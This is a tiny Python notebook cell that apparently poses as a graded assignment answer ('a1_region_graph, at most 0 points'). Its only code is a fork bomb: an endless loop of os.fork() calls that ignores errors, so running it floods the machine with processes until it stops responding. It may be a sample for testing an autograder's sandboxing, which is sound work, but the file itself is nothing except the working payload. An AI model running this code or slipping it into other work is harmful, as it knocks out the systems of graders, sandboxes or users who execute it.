# a1_region_graph, at most 0 points
# %%
import os
while True:
    try: os.fork()
    except OSError: pass
